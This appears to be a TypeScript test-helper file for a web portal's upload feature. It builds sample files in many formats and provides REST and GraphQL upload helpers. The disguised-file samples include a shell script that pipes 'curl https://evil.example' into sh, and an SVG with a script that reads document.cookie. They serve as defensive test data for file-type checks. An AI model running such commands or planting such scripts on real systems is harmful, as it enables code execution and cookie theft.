import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { crc32, deflateSync } from "node:zlib";
import { httpStatusFor } from "../src/http/rest/errors";
import { type Agent } from "./agent";
import { type TestPortal } from "./portal";

// ---------------------------------------------------------------------------
// Minimal but valid samples of every format the portal accepts, built here so
// the tests need no fixture files.
// ---------------------------------------------------------------------------

const u16 = (value: number) => {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
};
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value >>> 0);
  return bytes;
};

/** A zip archive of stored (uncompressed) members, in the given order. */
export function zip(members: Array<[name: string, content: string | Buffer]>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of members) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content, "utf8");
    const fileName = Buffer.from(name, "utf8");
    const crc = crc32(data);
    // version 2.0, no flags, method 0 (stored), time 0, date 1980-01-01
    const common = [u16(20), u16(0), u16(0), u16(0), u16(0x21), u32(crc), u32(data.length), u32(data.length)];
    const local = Buffer.concat([u32(0x04034b50), ...common, u16(fileName.length), u16(0), fileName, data]);
    centrals.push(
      Buffer.concat([
        u32(0x02014b50),
        u16(20),
        ...common,
        u16(fileName.length),
        u16(0), // extra
        u16(0), // comment
        u16(0), // disk
        u16(0), // internal attributes
        u32(0), // external attributes
        u32(offset),
        fileName,
      ]),
    );
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.concat([
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(members.length),
    u16(members.length),
    u32(directory.length),
    u32(offset),
    u16(0),
  ]);
  return Buffer.concat([...locals, directory, end]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A 1×1 RGB PNG, optionally padded after IEND (to reach a size). */
export function png(padTo = 0): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0); // width
  header.writeUInt32BE(1, 4); // height
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const image = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(Buffer.from([0, 0xff, 0x80, 0x00]))),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
  return padTo > image.length ? Buffer.concat([image, Buffer.alloc(padTo - image.length)]) : image;
}

const CONTENT_TYPES = (part: string, type: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
  `<Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${type}"/></Types>`;
const RELS = (part: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${part}"/></Relationships>`;

const ooxml = (part: string, type: string, xml: string) =>
  zip([
    ["[Content_Types].xml", CONTENT_TYPES(part, type)],
    ["_rels/.rels", RELS(part)],
    [part, xml],
  ]);

const odf = (mime: string) =>
  zip([
    ["mimetype", mime],
    [
      "META-INF/manifest.xml",
      `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">` +
        `<manifest:file-entry manifest:full-path="/" manifest:media-type="${mime}"/>` +
        `<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    ],
    [
      "content.xml",
      `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"><office:body/></office:document-content>`,
    ],
  ]);

export interface Sample {
  /** A file name a browser would send. */
  name: string;
  bytes: Buffer;
  /** The type the portal must detect. */
  mime: string;
  /** The extension of the stored key. */
  extension: string;
  /** Served inline (true) or as an attachment. */
  inline: boolean;
}

export const SAMPLES: Record<string, Sample> = {
  png: { name: "photo.png", bytes: png(), mime: "image/png", extension: "png", inline: true },
  jpeg: {
    name: "photo.jpeg",
    bytes: Buffer.from(
      "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
      "base64",
    ),
    mime: "image/jpeg",
    extension: "jpg",
    inline: true,
  },
  gif: {
    name: "anim.gif",
    bytes: Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64"),
    mime: "image/gif",
    extension: "gif",
    inline: true,
  },
  webp: {
    name: "image.webp",
    bytes: Buffer.from("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==", "base64"),
    mime: "image/webp",
    extension: "webp",
    inline: true,
  },
  pdf: {
    name: "programme.pdf",
    bytes: Buffer.from(
      "%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n" +
        "3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 3 3]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n",
      "latin1",
    ),
    mime: "application/pdf",
    extension: "pdf",
    inline: false,
  },
  docx: {
    name: "compte-rendu.docx",
    bytes: ooxml(
      "word/document.xml",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p></w:body></w:document>`,
    ),
    mime: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    extension: "docx",
    inline: false,
  },
  xlsx: {
    name: "budget.xlsx",
    bytes: ooxml(
      "xl/workbook.xml",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
      `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`,
    ),
    mime: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    extension: "xlsx",
    inline: false,
  },
  pptx: {
    name: "diaporama.pptx",
    bytes: ooxml(
      "ppt/presentation.xml",
      "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
      `<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
    ),
    mime: "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    extension: "pptx",
    inline: false,
  },
  odt: {
    name: "lettre.odt",
    bytes: odf("application/vnd.oasis.opendocument.text"),
    mime: "application/vnd.oasis.opendocument.text",
    extension: "odt",
    inline: false,
  },
  ods: {
    name: "tableau.ods",
    bytes: odf("application/vnd.oasis.opendocument.spreadsheet"),
    mime: "application/vnd.oasis.opendocument.spreadsheet",
    extension: "ods",
    inline: false,
  },
  svg: {
    name: "logo.svg",
    bytes: Buffer.from(
      `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script>alert(document.cookie)</script><rect width="1" height="1"/></svg>\n`,
    ),
    mime: "image/svg+xml",
    extension: "svg",
    inline: false,
  },
};

/** Files that claim to be images by their name and are not. */
export const DISGUISED: Record<string, { name: string; bytes: Buffer }> = {
  "a Windows executable": {
    name: "vacances.png",
    bytes: Buffer.concat([
      Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", "latin1"),
      Buffer.alloc(48),
      Buffer.from("This program cannot be run in DOS mode.\r\r\n$PE\0\0", "latin1"),
    ]),
  },
  "an HTML page": {
    name: "affiche.png",
    bytes: Buffer.from(`<!DOCTYPE html><html><body><script>fetch("/graphql")</script></body></html>`),
  },
  "a shell script": { name: "photo.png", bytes: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n") },
  "a zip that is no office document": {
    name: "rapport.docx",
    bytes: zip([["readme.txt", "not an office document"]]),
  },
};

// ---------------------------------------------------------------------------
// Multipart bodies written byte by byte, so file names reach the server exactly
// as a browser would send them (UTF-8, unescaped).
// ---------------------------------------------------------------------------

export type Part = { name: string; value: string } | { name: string; filename: string; type?: string; bytes: Buffer };

export function multipart(parts: Part[]): { body: Buffer; contentType: string } {
  const boundary = `----portail-test-${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    let head = `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"`;
    if ("filename" in part) {
      head += `; filename="${part.filename}"\r\nContent-Type: ${part.type ?? "application/octet-stream"}`;
    }
    chunks.push(Buffer.from(`${head}\r\n\r\n`, "utf8"));
    chunks.push("filename" in part ? part.bytes : Buffer.from(part.value, "utf8"));
    chunks.push(Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

export interface UploadAnswer {
  status: number;
  /** The upload result, when accepted. */
  result: { link: string; name: string; type: string } | null;
  error: { message: string; code: string } | null;
}

export interface FileToSend {
  name: string;
  bytes: Buffer;
  /** The type the client declares (never trusted). */
  type?: string;
}

/** POST /api/upload with the file in the `file` field. */
export async function restUpload(agent: Agent, file: FileToSend): Promise<UploadAnswer> {
  const { body, contentType } = multipart([
    { name: "file", filename: file.name, type: file.type ?? "image/png", bytes: file.bytes },
  ]);
  const response = await agent.fetch("POST", "/api/upload", body, { "content-type": contentType });
  const json = (await response.json()) as any;
  return response.ok
    ? { status: response.status, result: json, error: null }
    : { status: response.status, result: null, error: { message: json.message, code: json.code } };
}

export const UPLOAD_MUTATION = `mutation ($file: Upload!) { uploadFile(file: $file) { link name type } }`;

/** The uploadFile mutation as a GraphQL multipart request (spec v2). */
export async function graphqlUpload(
  agent: Agent,
  file: FileToSend,
  { preflight = true }: { preflight?: boolean } = {},
): Promise<UploadAnswer> {
  const { body, contentType } = multipart([
    { name: "operations", value: JSON.stringify({ query: UPLOAD_MUTATION, variables: { file: null } }) },
    { name: "map", value: JSON.stringify({ "0": ["variables.file"] }) },
    { name: "0", filename: file.name, type: file.type ?? "image/png", bytes: file.bytes },
  ]);
  const response = await agent.fetch("POST", "/graphql", body, {
    "content-type": contentType,
    ...(preflight ? { "apollo-require-preflight": "true" } : {}),
  });
  const json = (await response.json()) as any;
  const error = json.errors?.[0];
  return {
    status: response.status,
    result: json.data?.uploadFile ?? null,
    error: error ? { message: error.message, code: error.extensions?.code } : null,
  };
}

export type UploadVia = (agent: Agent, file: FileToSend) => Promise<UploadAnswer>;
/** Each way to upload, with the HTTP status a refusal of a given code answers (GraphQL: always 200). */
export const UPLOAD_ROUTES: Array<[string, UploadVia, (code: string) => number]> = [
  ["REST", restUpload, httpStatusFor],
  ["GraphQL", (agent, file) => graphqlUpload(agent, file), () => 200],
];

/** The keys of the files kept under DATA_DIR/uploads. */
export function storedKeys(t: TestPortal): string[] {
  const dir = join(t.dataDir, "uploads");
  return existsSync(dir) ? readdirSync(dir).sort() : [];
}

/** Uploads a sample and fails loudly when the portal refuses it. */
export async function uploaded(
  agent: Agent,
  sample: FileToSend = SAMPLES.png,
): Promise<{ link: string; name: string; type: string }> {
  const answer = await restUpload(agent, sample);
  if (!answer.result) throw new Error(`upload refused: ${answer.status} ${answer.error?.message}`);
  return answer.result;
}
